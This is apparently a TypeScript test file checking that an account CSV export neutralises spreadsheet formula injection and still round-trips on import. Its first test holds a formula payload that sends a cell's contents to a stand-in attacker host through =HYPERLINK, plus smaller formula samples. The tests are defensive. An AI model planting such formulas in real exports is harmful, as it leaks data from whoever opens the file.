import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { formatAccountFile, parseAccountFile } from '../../../electron/main/cli/account-file'
import { parseCsv } from '../../../electron/main/cli/csv-format'
import type { ExportedAccount } from '../../../electron/main/services/import-service'

/**
 * S28: the account export is a CSV a spreadsheet will open. No cell may start
 * like a formula (=, +, -, @, tab, CR) unless it is an E.164 phone number, and
 * the import takes the neutralising apostrophe off again, so export → import
 * gives back exactly what was exported.
 */
const formulaStart = /^[=+\-@\t\r]/
const e164 = /^\+\d{7,15}$/

function account(displayName: string, email: string | null = null, phone: string | null = null): ExportedAccount {
  return { username: 'bob', displayName, email, phone, role: 'user' }
}

/** The cells of the data rows as a spreadsheet would read them. */
function cellsOf(csv: string): string[] {
  return parseCsv(csv)
    .slice(1)
    .flatMap((r) => r.fields)
}

function roundTrip(accounts: readonly ExportedAccount[]) {
  return parseAccountFile(formatAccountFile(accounts, 'csv'), 'csv').map((row) => ({
    username: row.username,
    displayName: row.displayName,
    email: row.email,
    phone: row.phone,
    role: row.role,
  }))
}

describe('S28: account export neutralises formulas and the import restores them', () => {
  it('writes =HYPERLINK(…) and its kin with a leading apostrophe, and leaves an E.164 phone number as it is', () => {
    const accounts = [
      account('=HYPERLINK("http://evil.example/?x="&A1,"Click me")', null, '+442079460958'),
      account('+SUM(1,2)', '-1@example.org'),
      account('@cmd', null, '+15551234567'),
      account('-2+3'),
      account("'=already quoted"),
    ]
    const csv = formatAccountFile(accounts, 'csv')
    const cells = cellsOf(csv)
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`)
    expect(cells).toContain("'+SUM(1,2)")
    expect(cells).toContain("'-1@example.org")
    expect(cells).toContain("'@cmd")
    expect(cells).toContain("'-2+3")
    // The apostrophe already there would be eaten by the import, so it gets one more.
    expect(cells).toContain("''=already quoted")
    // A phone number is data, not a formula (and a quote would make it an invalid number on import).
    expect(csv).toContain(',+442079460958,')
    expect(csv).toContain(',+15551234567,')
    for (const cell of cells) expect(formulaStart.test(cell) && !e164.test(cell)).toBe(false)
    expect(roundTrip(accounts)).toEqual(accounts)
  })

  it('leaves ordinary cells alone and takes off only an apostrophe it would have added', () => {
    const csv = ['username,display_name,email,phone,role', "bob,'Bob,'x@example.org,'+442079460958,user", ''].join(
      '\r\n',
    )
    // "'Bob" was not neutralised by Keyhold (Bob is no formula): it stays as written.
    expect(parseAccountFile(csv, 'csv')[0]).toMatchObject({
      displayName: "'Bob",
      email: "'x@example.org",
      phone: "'+442079460958",
    })
    expect(parseAccountFile("username,display_name,email,phone,role\r\nbob,'=1+1,,,user\r\n", 'csv')[0]).toMatchObject({
      displayName: '=1+1',
    })
  })

  it('round-trips any display name, email and phone, and never writes a cell that runs as a formula', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", '', ' ', '"', ',', '\r\n')
    const text = fc.tuple(risky, fc.string({ maxLength: 20 }), risky).map(([a, b, c]) => `${a}${b}${c}`)
    const phone = fc.oneof(
      fc.constant(null),
      fc.stringMatching(/^\+[1-9]\d{6,14}$/),
      fc.tuple(risky, fc.stringMatching(/^\+?\d{1,17}$/)).map(([a, b]) => `${a}${b}`),
    )
    const nonEmpty = (s: string | null) => (s === null || s.trim() === '' ? null : s)
    const accountArb = fc.record({
      username: fc.stringMatching(/^[a-z][a-z0-9._-]{1,10}$/),
      displayName: text.filter((s) => s.trim() !== ''),
      email: fc.oneof(fc.constant(null), text, fc.emailAddress()).map(nonEmpty),
      phone: phone.map(nonEmpty),
      role: fc.constantFrom('admin' as const, 'user' as const),
    })
    fc.assert(
      fc.property(fc.array(accountArb, { maxLength: 8 }), (accounts) => {
        const csv = formatAccountFile(accounts, 'csv')
        for (const cell of cellsOf(csv)) expect(formulaStart.test(cell) && !e164.test(cell)).toBe(false)
        expect(roundTrip(accounts)).toEqual(accounts)
      }),
      { numRuns: 500 },
    )
  })

  it('leaves the JSON export as it is: it is no spreadsheet', () => {
    const accounts = [account('=HYPERLINK("x")', '+x@example.org', '+442079460958')]
    const json = formatAccountFile(accounts, 'json')
    expect(JSON.parse(json)).toEqual([
      {
        username: 'bob',
        display_name: '=HYPERLINK("x")',
        email: '+x@example.org',
        phone: '+442079460958',
        role: 'user',
      },
    ])
    expect(parseAccountFile(json, 'json')[0]).toMatchObject({ displayName: '=HYPERLINK("x")' })
  })
})
